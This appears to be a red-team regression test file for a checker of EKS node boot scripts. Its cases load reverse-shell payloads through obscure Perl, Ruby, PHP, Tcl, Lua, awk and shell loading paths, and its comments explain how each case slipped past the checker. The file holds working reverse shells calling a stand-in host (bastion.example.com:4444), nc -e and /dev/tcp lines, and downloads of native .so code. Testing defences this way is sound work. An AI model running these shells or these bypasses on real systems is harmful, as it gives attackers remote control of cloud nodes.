// Red-team round 67 on EKS NODE user data (fresh eyes on round 66's node loader fixes: perlLoads/rubyLoads/phpLoads,
// tcl eval/uplevel of [read [open]], INTERPRETER_VARIABLES PERL5DB/PHP_INI_SCAN_DIR/AWKPATH/AWKLIBPATH/LUA_CPATH/
// TCLLIBPATH, bash --rcfile/--init-file, busybox/toybox shells).
// Probed: perl do q{}, literal eval "use M", lib->import, #! line switches (-I, -d with PERL5DB), `use if`, exported
// PERL5DB, env PERL5DB; ruby Kernel::load, send(:load), Kernel.eval/binding.eval File.read, $LOAD_PATH[0,0]=, $-I,
// #! -I, RubyVM compile_file, require_relative's directory; php upper-case INCLUDE, include beside the script,
// extension/zend_extension (-d, PHP_INI_SCAN_DIR, /etc/php.d), dl(), exported PHP_INI_SCAN_DIR; tcl catch/if/after/
// interp eval of [read [open]], `lappend auto_path`, Tcl modules (TCL8_6_TM_PATH, tcl::tm::path add); lua
// package.loadlib, package.path in code, exported LUA_PATH, package.searchers; gawk AWKPATH for -f, exported
// AWKLIBPATH, @load in a -f file; BASH_ENV, bash --rcfile -i, ENV sh -i, busybox env ash, busybox sh -s <<<. Secure:
// the idioms programs use to load their own sibling files (__DIR__, FindBin, expand_path(__dir__), require_relative,
// [info script]), core `use if`/FindBin, packaged php extension, literal eval of a known module.
// Misses (25 insecure, 8 secure). Insecure accepted: perl do q{FILE}, eval "use M", lib->import, #! -I and #! -d
// (PERL5DB); ruby Kernel::load, send(:load), $LOAD_PATH[0,0]=, $-I, #! -I, require_relative resolved from cwd; php
// INCLUDE (case), -d extension=, scan-dir extension=, dl(), /etc/php.d zend_extension; tcl catch/if/interp eval/after of
// [read [open]], lappend auto_path + pkgIndex.tcl, TCL8_6_TM_PATH and tcl::tm::path add .tm modules; lua
// package.loadlib; gawk -f NAME on AWKPATH. Secure refused: php require __DIR__ . '/lib.php', php include of a
// sibling, perl FindBin + use lib "$FindBin::Bin/lib", `use FindBin` alone, `use if`, ruby require
// File.expand_path(.., __dir__), ruby require_relative of a sibling, tcl source [file join [file dirname [info
// script]] lib.tcl]. Refused as they should be: the rest of the insecure list.
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

/** What a relay or a shared shell is refused as. */
const RELAY =
    /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|X server|made at boot|cannot read|cannot compute|does not write/;
const PERL_SHELL = `use IO::Socket;$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;
const RUBY_SHELL = `require "socket";c=TCPSocket.new("bastion.example.com",4444);exec "/bin/sh -i",in: c,out: c,err: c`;
const PHP_SHELL = `<?php $s=fsockopen("bastion.example.com",4444);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);`;
const TCL_SHELL = `set s [socket bastion.example.com 4444]; while 1 { puts $s [exec sh -c [gets $s]]; flush $s }`;
const AWK_SHELL = `BEGIN{s="/inet/tcp/0/bastion.example.com/4444";while(1){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}`;
const LUA_SHELL = `local s=require("socket").tcp();s:connect("bastion.example.com",4444);while true do local l=s:receive();local f=io.popen(l);s:send(f:read("*a")) end`;
const written = (path: string, text: string) => [`cat > ${path} <<'EOF'`, text, "EOF"];

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 68): perlfunc `do EXPR` (EXPR any string expression; perlop q{} is a literal string): `do q{/opt/r.pl}` runs
    // the written IO::Socket + exec /bin/sh reverse shell; perlLoads (userData.ts) takes `do` followed by anything but
    // ( ' " $ as the removed `do SUBROUTINE` and loads nothing. Read q/qq literals as codeArgument literals (or fail
    // closed). Accepted (got []).
    devNodeCase(
        "perl do q{} written",
        devNodeScript("dev-p1-nodes", [...written("/opt/r.pl", PERL_SHELL), `perl -e 'do q{/opt/r.pl}'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): perlfunc `eval EXPR` (the string is parsed and run as Perl) + `use Module` (require at compile time on
    // @INC; -I prepends: perlrun): `eval "use Rev; 1"` loads the written /opt/Rev.pm reverse shell; perlLoads reads
    // the literal eval as already in the text but its `use` matcher requires a statement start before `use` (the `"`
    // does not count), so Rev is never looked up. Scan literal eval strings as code. Accepted.
    devNodeCase(
        "perl eval string use Rev",
        devNodeScript("dev-p2-nodes", [
            ...written("/opt/Rev.pm", `package Rev; ${PERL_SHELL}; 1;`),
            `perl -I/opt -e 'eval "use Rev; 1" or die'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): perldoc lib (`use lib LIST` is `BEGIN { require lib; lib->import(LIST) }`, prepending to @INC):
    // `lib->import("/opt/lib")` makes `use JSON::PP` load the written /opt/lib/JSON/PP.pm reverse shell; perlLoads
    // knows only `use lib` and unshift/push @INC, so JSON::PP stays PERL_KNOWN_MODULES. Treat lib->import (and
    // lib::import) as use lib / a computed @INC. Accepted.
    devNodeCase(
        "perl lib->import shadows JSON::PP",
        devNodeScript("dev-p3-nodes", [
            "mkdir -p /opt/lib/JSON",
            ...written("/opt/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
            `perl -e 'BEGIN { require lib; lib->import("/opt/lib") } use JSON::PP; print 1'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): perlrun ("The #! line is always examined for switches as the line is being parsed"; -I prepends to @INC):
    // /opt/app.pl's `#!/usr/bin/perl -I/opt/lib` makes its `use JSON::PP` load the written /opt/lib/JSON/PP.pm reverse
    // shell; CODE_LOADERS perl reads -I only from the command's words, not the script's #! switches. Accepted.
    devNodeCase(
        "perl shebang -I shadows JSON::PP",
        devNodeScript("dev-p4-nodes", [
            "mkdir -p /opt/lib/JSON",
            ...written("/opt/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
            ...written("/opt/app.pl", "#!/usr/bin/perl -I/opt/lib\nuse JSON::PP;\nprint 1;"),
            `perl /opt/app.pl`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl use if shadows",
        devNodeScript("dev-p5-nodes", [
            ...written("/opt/Rev.pm", `package Rev; ${PERL_SHELL}; 1;`),
            `perl -I/opt -e 'use if 1, "Rev"; print 1'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl export PERL5DB earlier",
        devNodeScript("dev-p6-nodes", [`export PERL5DB='BEGIN { ${PERL_SHELL} }'`, `perl -d -e 1`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): perlrun (#! line switches are honoured) + perldebug ENVIRONMENT (PERL5DB is the code run to load the
    // debugger under -d): `PERL5DB='BEGIN { reverse shell }' perl /opt/app.pl` where app.pl starts `#!/usr/bin/perl
    // -d` runs the PERL5DB reverse shell; perlDebugger only looks for -d among the command's options. Accepted.
    devNodeCase(
        "perl shebang -d with PERL5DB",
        devNodeScript("dev-p7-nodes", [
            ...written("/opt/app.pl", "#!/usr/bin/perl -d\nprint 1;"),
            `PERL5DB='BEGIN { ${PERL_SHELL} }' perl /opt/app.pl`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Ruby docs Kernel#load (Kernel::load is the same module-function call with `::`): `Kernel::load
    // "/opt/r.rb"` runs the written TCPSocket + exec /bin/sh reverse shell; rubyLoads' matcher `(?<![\w$@:.])` skips a
    // load preceded by `:`. Accepted.
    devNodeCase(
        "ruby Kernel::load",
        devNodeScript("dev-r1-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'Kernel::load "/opt/r.rb"'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Ruby docs Object#send / Kernel#load (send calls private methods: `send(:load, FILE)` is load FILE): the
    // written reverse shell /opt/r.rb runs; rubyLoads only sees `load`/`require` as a call word, not a symbol given to
    // send/public_send/__send__/method(:load). Fail closed on send/method of :load/:require/:eval. Accepted.
    devNodeCase(
        "ruby send(:load)",
        devNodeScript("dev-r2-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'send(:load, "/opt/r.rb")'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby Kernel.eval File.read",
        devNodeScript("dev-r3-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'Kernel.eval(File.read("/opt/r.rb"))'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby binding.eval File.read",
        devNodeScript("dev-r4-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'binding.eval(File.read("/opt/r.rb"))'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Ruby docs Array#[]= (`a[0,0] = x` inserts x at the front) on $LOAD_PATH (require searches it in order):
    // `$LOAD_PATH[0,0] = "/opt/rb"; require "json"` loads the written /opt/rb/json.rb reverse shell; rubyLoads notices
    // only <<, unshift/push/prepend/append/insert/concat/replace, so json stays RUBY_KNOWN_LIBRARIES. Any other write
    // to $LOAD_PATH/$: should make the path computed. Accepted.
    devNodeCase(
        "ruby $LOAD_PATH[0,0]= shadows json",
        devNodeScript("dev-r5-nodes", [
            "mkdir -p /opt/rb",
            ...written("/opt/rb/json.rb", RUBY_SHELL),
            `ruby -e '$LOAD_PATH[0,0] = "/opt/rb"; require "json"'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Ruby docs (globals: `$-I` is an alias of `$:`/$LOAD_PATH): `$-I.unshift "/opt/rb"; require "json"` loads
    // the written /opt/rb/json.rb reverse shell; rubyLoads reads $LOAD_PATH and $: only. Accepted.
    devNodeCase(
        "ruby $-I.unshift shadows json",
        devNodeScript("dev-r6-nodes", [
            "mkdir -p /opt/rb",
            ...written("/opt/rb/json.rb", RUBY_SHELL),
            `ruby -e '$-I.unshift "/opt/rb"; require "json"'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): ruby(1) (options on a script's #! line that mentions ruby are read as command-line options; -I adds to
    // $LOAD_PATH): /opt/app.rb's `#!/usr/bin/ruby -I/opt/rb` makes `require 'json'` load the written /opt/rb/json.rb
    // reverse shell; CODE_LOADERS ruby reads -I only from the command's words. Accepted.
    devNodeCase(
        "ruby shebang -I shadows json",
        devNodeScript("dev-r7-nodes", [
            "mkdir -p /opt/rb",
            ...written("/opt/rb/json.rb", RUBY_SHELL),
            ...written("/opt/app.rb", "#!/usr/bin/ruby -I/opt/rb\nrequire 'json'\nputs 1"),
            `ruby /opt/app.rb`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby RubyVM compile_file",
        devNodeScript("dev-r8-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'RubyVM::InstructionSequence.compile_file("/opt/r.rb").eval'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): PHP manual, "Basic syntax"/keywords (language keywords and function names are case-insensitive): `INCLUDE
    // "/opt/r.php";` runs the written fsockopen + proc_open reverse shell; phpLoads matches lower-case
    // include/require/eval only. Match case-insensitively. Accepted.
    devNodeCase(
        "php INCLUDE uppercase",
        devNodeScript("dev-h1-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'INCLUDE "/opt/r.php";'`]),
        RELAY,
    ),
    devNodeCase(
        "php include beside the script",
        devNodeScript("dev-h2-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.php", PHP_SHELL),
            ...written("/opt/app/main.php", `<?php include "lib.php";`),
            `php /opt/app/main.php`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): PHP manual, php.ini directives `extension` ("Which dynamically loadable extension to load when PHP starts
    // up"; a path loads that shared object) and CLI -d: `php -d extension=/opt/x.so` loads the downloaded native code
    // (it may dial out or listen); CODE_LOADERS php reads only auto_prepend_file/auto_append_file. Fail closed on
    // extension/zend_extension naming a file user data wrote or downloaded (as AWKLIBPATH/LUA_CPATH .so are).
    // Accepted.
    devNodeCase(
        "php -d extension downloaded",
        devNodeScript("dev-h3-nodes", [
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            `php -d extension=/opt/x.so -r 'echo 1;'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): PHP manual "The configuration file" (PHP_INI_SCAN_DIR .ini files are parsed) + `extension` directive:
    // /opt/ini/99-x.ini's `extension=/opt/x.so` loads the downloaded shared object; the scan-dir ini is read for
    // auto_prepend_file only. Accepted.
    devNodeCase(
        "php PHP_INI_SCAN_DIR extension downloaded",
        devNodeScript("dev-h4-nodes", [
            "mkdir -p /opt/ini",
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            "echo 'extension=/opt/x.so' > /opt/ini/99-x.ini",
            `PHP_INI_SCAN_DIR=/opt/ini php -r 'echo 1;'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): PHP manual dl() ("Loads a PHP extension at runtime" from extension_dir, /usr/lib64/php/modules on Amazon
    // Linux; available in the CLI): `php -r 'dl("x.so")'` loads the downloaded native code; phpLoads does not read dl.
    // Accepted.
    devNodeCase(
        "php dl()",
        devNodeScript("dev-h5-nodes", [
            "curl -fsSL -o /usr/lib64/php/modules/x.so https://downloads.example.com/x.so",
            `php -r 'dl("x.so");'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php export PHP_INI_SCAN_DIR",
        devNodeScript("dev-h6-nodes", [
            "mkdir -p /opt/ini",
            ...written("/opt/r.php", PHP_SHELL),
            "echo 'auto_prepend_file=/opt/r.php' > /opt/ini/99-app.ini",
            "export PHP_INI_SCAN_DIR=/opt/ini",
            `php -r 'echo 1;' > /tmp/v`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): PHP manual php.ini `zend_extension` (loads a Zend extension shared object at startup) in /etc/php.d (the
    // compile-time scan directory, read by every php): the downloaded /opt/x.so runs in every php process;
    // CODE_LOADERS php reads ini files for auto_prepend/append only. Accepted.
    devNodeCase(
        "php zend_extension in /etc/php.d",
        devNodeScript("dev-h7-nodes", [
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            "echo 'zend_extension=/opt/x.so' > /etc/php.d/99-x.ini",
            `php -r 'echo 1;'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php include_once with parens and spaces",
        devNodeScript("dev-h8-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'include_once ( "/opt/r.php" );'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Tcl catch(n) ("evaluates script"; its argument here is the substituted text of [read [open FILE]]): `catch
    // [read [open /opt/r.tcl]]` runs the written socket + exec shell; CODE_LOADERS tcl follows only
    // eval/uplevel/namespace eval of text. Every command that evaluates a script argument (catch, if/while/for/foreach
    // bodies, try, time, after, interp eval, apply) needs the same reading, or fail closed on [read ...] anywhere.
    // Accepted.
    devNodeCase(
        "tcl catch [read [open]]",
        devNodeScript("dev-t1-nodes", [
            ...written("/opt/r.tcl", TCL_SHELL),
            `tclsh <<< 'catch [read [open /opt/r.tcl]]'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Tcl if(n) (the body is a script evaluated when the condition holds): `if 1 [read [open /opt/r.tcl]]` runs
    // the written shell; not read (only eval/uplevel/namespace eval). Accepted.
    devNodeCase(
        "tcl if 1 [read [open]]",
        devNodeScript("dev-t2-nodes", [
            ...written("/opt/r.tcl", TCL_SHELL),
            `tclsh <<< 'if 1 [read [open /opt/r.tcl]]'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): tclvars(n) auto_path + package(n) (package require searches auto_path's pkgIndex.tcl files; scripts
    // commonly `lappend auto_path DIR`): /opt/tcl/http/pkgIndex.tcl's `package ifneeded http 9.9 [list source r.tcl]`
    // makes `package require http` source the written shell; CODE_LOADERS tcl takes index dirs only from TCLLIBPATH
    // and the default auto_path, not from the code's auto_path edits. Accepted.
    devNodeCase(
        "tcl lappend auto_path pkgIndex",
        devNodeScript("dev-t3-nodes", [
            "mkdir -p /opt/tcl/http",
            ...written("/opt/tcl/http/r.tcl", TCL_SHELL),
            `echo 'package ifneeded http 9.9 [list source /opt/tcl/http/r.tcl]' > /opt/tcl/http/pkgIndex.tcl`,
            `tclsh <<< 'lappend auto_path /opt/tcl; package require http'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Tcl tm(n) (Tcl Modules: `package require` also searches the module path, which includes the directories in
    // TCL8_6_TM_PATH/TCL8_5_TM_PATH...; a file NAME-VERSION.tm is sourced): /opt/tm/http-9.9.tm (the written shell) is
    // the highest http, so `package require http` sources it; INTERPRETER_VARIABLES tclsh has only TCLLIBPATH.
    // Accepted.
    devNodeCase(
        "tcl TCL8_6_TM_PATH module",
        devNodeScript("dev-t4-nodes", [
            "mkdir -p /opt/tm",
            ...written("/opt/tm/http-9.9.tm", TCL_SHELL),
            `TCL8_6_TM_PATH=/opt/tm tclsh <<< 'package require http'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Tcl tm(n) (`::tcl::tm::path add DIR` adds DIR to the module path; NAME-VERSION.tm files there satisfy
    // package require): `::tcl::tm::path add /opt/tm; package require http` sources the written /opt/tm/http-9.9.tm
    // shell; http stays TCL_KNOWN_PACKAGES. Accepted.
    devNodeCase(
        "tcl tm::path add",
        devNodeScript("dev-t5-nodes", [
            "mkdir -p /opt/tm",
            ...written("/opt/tm/http-9.9.tm", TCL_SHELL),
            `tclsh <<< '::tcl::tm::path add /opt/tm; package require http'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Tcl interp(n) (`interp create x` makes a full, unsafe interpreter; `x eval ARG` evaluates ARG there): `x
    // eval [read [open /opt/r.tcl]]` runs the written socket + exec shell; only bare eval/uplevel/namespace eval are
    // read. Accepted.
    devNodeCase(
        "tcl interp eval",
        devNodeScript("dev-t6-nodes", [
            ...written("/opt/r.tcl", TCL_SHELL),
            `tclsh <<< 'interp create x; x eval [read [open /opt/r.tcl]]'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Tcl after(n) (`after ms script` evaluates the script from the event loop; vwait runs it): `after 0 [read
    // [open /opt/r.tcl]]; vwait forever` runs the written shell; not read. Accepted.
    devNodeCase(
        "tcl after 0 read",
        devNodeScript("dev-t7-nodes", [
            ...written("/opt/r.tcl", TCL_SHELL),
            `tclsh <<< 'after 0 [read [open /opt/r.tcl]]; vwait forever'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Lua manual package.loadlib ("Dynamically links the host program with the C library libname"; returns its
    // function): `package.loadlib("/opt/x.so","luaopen_x")()` runs downloaded native code; CODE_LOADERS lua reads
    // dofile/loadfile/require/load only. Fail closed on package.loadlib (as on LUA_CPATH .so). Accepted.
    devNodeCase(
        "lua package.loadlib downloaded",
        devNodeScript("dev-l1-nodes", [
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            `lua -e 'package.loadlib("/opt/x.so", "luaopen_x")()'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "lua package.path code shadows cjson",
        devNodeScript("dev-l2-nodes", [
            "mkdir -p /opt/lua",
            ...written("/opt/lua/cjson.lua", LUA_SHELL),
            `lua -e 'package.path = "/opt/lua/?.lua;" .. package.path; require "cjson"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "lua export LUA_PATH",
        devNodeScript("dev-l3-nodes", [
            "mkdir -p /opt/lua",
            ...written("/opt/lua/cjson.lua", LUA_SHELL),
            "export LUA_PATH='/opt/lua/?.lua;;'",
            `lua -lcjson -e 'print(1)'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "lua package.preload/searchers",
        devNodeScript("dev-l4-nodes", [
            ...written("/opt/r.lua", LUA_SHELL),
            `lua -e 'table.insert(package.searchers, 2, function(n) return loadfile("/opt/r.lua") end); require "cjson"'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): GNU awk manual "The AWKPATH Environment Variable" (used for -f and -i files; ".awk" is appended when the
    // name is not found): `AWKPATH=/opt/awk gawk -f rev` runs the written /opt/awk/rev.awk (/inet/tcp + |& reverse
    // shell); the -f program is looked up only as given (cwd), not on AWKPATH, and nothing is read. Accepted.
    devNodeCase(
        "gawk AWKPATH -f name",
        devNodeScript("dev-a1-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/rev.awk", AWK_SHELL),
            `AWKPATH=/opt/awk gawk -f rev`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "gawk export AWKLIBPATH",
        devNodeScript("dev-a2-nodes", [
            "mkdir -p /opt/ext",
            "curl -fsSL -o /opt/ext/filefuncs.so https://downloads.example.com/filefuncs.so",
            "export AWKLIBPATH=/opt/ext",
            `gawk -l filefuncs 'BEGIN{}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "gawk @load in -f file with AWKLIBPATH",
        devNodeScript("dev-a3-nodes", [
            "mkdir -p /opt/ext",
            "curl -fsSL -o /opt/ext/filefuncs.so https://downloads.example.com/filefuncs.so",
            ...written("/opt/m.awk", '@load "filefuncs"\nBEGIN { print 1 }'),
            `AWKLIBPATH=/opt/ext gawk -f /opt/m.awk`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "bash BASH_ENV",
        devNodeScript("dev-b1-nodes", [
            ...written("/opt/r.sh", "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1"),
            `BASH_ENV=/opt/r.sh bash -c 'echo hi'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "bash --rcfile written -i",
        devNodeScript("dev-b2-nodes", [
            ...written("/opt/r.sh", "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1"),
            `bash --rcfile /opt/r.sh -i < /dev/null`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "sh -i ENV written",
        devNodeScript("dev-b3-nodes", [
            ...written("/opt/r.sh", "nc bastion.example.com 4444 -e /bin/sh"),
            `ENV=/opt/r.sh sh -i < /dev/null`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "busybox env ash",
        devNodeScript("dev-b4-nodes", ["busybox env ash <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "busybox sh -s here-string",
        devNodeScript("dev-b5-nodes", [`busybox sh -s <<< 'nc bastion.example.com 4444 -e /bin/sh'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 68): Ruby docs Kernel#require_relative ("relative to the directory of the file containing the require_relative
    // statement"): /opt/app/run.rb's `require_relative "helper"` loads /opt/app/helper.rb (the written reverse shell)
    // though cwd is /opt/work; rubyLoads resolves it against cwd (/opt/work/helper.rb, harmless) and accepts. Resolve
    // against the program file's directory. Accepted.
    devNodeCase(
        "ruby require_relative resolved from cwd, not the file",
        devNodeScript("dev-r9-nodes", [
            "mkdir -p /opt/app /opt/work",
            ...written("/opt/app/helper.rb", RUBY_SHELL),
            ...written("/opt/work/helper.rb", "puts 1"),
            ...written("/opt/app/run.rb", 'require_relative "helper"'),
            "cd /opt/work",
            "ruby /opt/app/run.rb",
        ]),
        RELAY,
    ),
    // Round 68 neighbours (php/tcl/lua/awk loaders).
    devNodeCase(
        "php Require_Once mixed case",
        devNodeScript("dev-h9-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'Require_Once("/opt/r.php");'`]),
        RELAY,
    ),
    devNodeCase(
        "php require dirname(__FILE__) sibling shell",
        devNodeScript("dev-h10-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/r.php", PHP_SHELL),
            ...written("/opt/app/main.php", `<?php require dirname(__FILE__) . "/r.php";`),
            `php /opt/app/main.php`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php -r require __DIR__ (no file: computed)",
        devNodeScript("dev-h11-nodes", [...written("/r.php", PHP_SHELL), `php -r 'require __DIR__ . "/r.php";'`]),
        RELAY,
    ),
    devNodeCase(
        "php -c php.ini extension downloaded",
        devNodeScript("dev-h12-nodes", [
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            "echo 'extension = \"/opt/x.so\" ; native' > /opt/php.ini",
            `php -c /opt/php.ini -r 'echo 1;'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php dl computed",
        devNodeScript("dev-h13-nodes", [
            "curl -fsSL -o /usr/lib64/php/modules/x.so https://downloads.example.com/x.so",
            `php -r '$n = "x.so"; DL($n);'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl time [read [open]]",
        devNodeScript("dev-t8-nodes", [
            ...written("/opt/r.tcl", TCL_SHELL),
            `tclsh <<< 'time [read [open /opt/r.tcl]]'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl set then catch $script",
        devNodeScript("dev-t9-nodes", [
            ...written("/opt/r.tcl", TCL_SHELL),
            `tclsh <<< 'set s [read [open /opt/r.tcl]]; catch $s'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl catch [read $ch] (computed)",
        devNodeScript("dev-t10-nodes", [
            "curl -fsSL -o /opt/r.tcl https://downloads.example.com/r.tcl",
            `tclsh <<< 'set ch [open /opt/r.tcl]; catch [read $ch]'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl set auto_path linsert (computed)",
        devNodeScript("dev-t11-nodes", [
            "mkdir -p /opt/tcl/http",
            ...written("/opt/tcl/http/r.tcl", TCL_SHELL),
            `echo 'package ifneeded http 9.9 [list source /opt/tcl/http/r.tcl]' > /opt/tcl/http/pkgIndex.tcl`,
            `tclsh <<< 'set auto_path [linsert $auto_path 0 /opt/tcl]; package require http'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl source beside info script (shell)",
        devNodeScript("dev-t12-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/r.tcl", TCL_SHELL),
            ...written("/opt/app/main.tcl", "source [file join [file dirname [info script]] r.tcl]"),
            "tclsh /opt/app/main.tcl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl TCL8_5_TM_PATH namespaced module",
        devNodeScript("dev-t13-nodes", [
            "mkdir -p /opt/tm/json",
            ...written("/opt/tm/json/write-9.9.tm", TCL_SHELL),
            `TCL8_5_TM_PATH=/opt/tm tclsh <<< 'package require json::write'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "lua package.loadlib computed",
        devNodeScript("dev-l5-nodes", [
            "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so",
            `lua -e 'local p = "/opt/" .. "x.so"; package.loadlib(p, "luaopen_x")()'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "gawk --file name on AWKPATH (.awk appended)",
        devNodeScript("dev-a4-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/rev.awk", AWK_SHELL),
            `AWKPATH=/tmp:/opt/awk gawk --file=rev`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl PERL5DB via env wrapper",
        devNodeScript("dev-p8-nodes", [`env PERL5DB='BEGIN { ${PERL_SHELL} }' perl -d -e 1`]),
        RELAY,
    ),
    // Round 68 neighbours: a file name a called bareword computes, @INC spliced, FindBin of -e (the working directory)
    // and of a script whose lib holds a shadowing JSON::PP, require/method/alias of Ruby's loaders, a computed
    // $LOAD_PATH addition, File.expand_path(__dir__) resolving to a written reverse shell.
    devNodeCase(
        "perl do File::Spec->catfile",
        devNodeScript("dev-n1-nodes", [
            ...written("/opt/r.pl", PERL_SHELL),
            `perl -e 'use File::Spec; do File::Spec->catfile("/opt", "r.pl")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl splice @INC shadows JSON::PP",
        devNodeScript("dev-n2-nodes", [
            "mkdir -p /opt/lib/JSON",
            ...written("/opt/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
            `perl -e 'BEGIN { splice @INC, 0, 0, "/opt/lib" } use JSON::PP; print 1'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl -e FindBin is the working directory",
        devNodeScript("dev-n3-nodes", [
            "mkdir -p /opt/lib/JSON",
            ...written("/opt/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
            "cd /opt",
            `perl -e 'use FindBin; use lib "$FindBin::Bin/lib"; use JSON::PP; print 1'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl FindBin lib shadows JSON::PP",
        devNodeScript("dev-n4-nodes", [
            "mkdir -p /opt/app/lib/JSON",
            ...written("/opt/app/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
            ...written("/opt/app/run.pl", `use FindBin qw($Bin); use lib "$Bin/lib"; use JSON::PP; print 1;`),
            "perl /opt/app/run.pl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl eval q{} of use Rev",
        devNodeScript("dev-n5-nodes", [
            ...written("/opt/Rev.pm", `package Rev; ${PERL_SHELL}; 1;`),
            `perl -I/opt -e 'eval q{use Rev; 1} or die'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby Kernel::require",
        devNodeScript("dev-n6-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'Kernel::require "/opt/r.rb"'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby method(:load).call",
        devNodeScript("dev-n7-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'method(:load).call("/opt/r.rb")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby alias of load",
        devNodeScript("dev-n8-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'alias l load; l "/opt/r.rb"'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby send of a computed name",
        devNodeScript("dev-n9-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'm = "lo" + "ad"; send(m, "/opt/r.rb")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby $: splat addition shadows json",
        devNodeScript("dev-n10-nodes", [
            "mkdir -p /opt/rb",
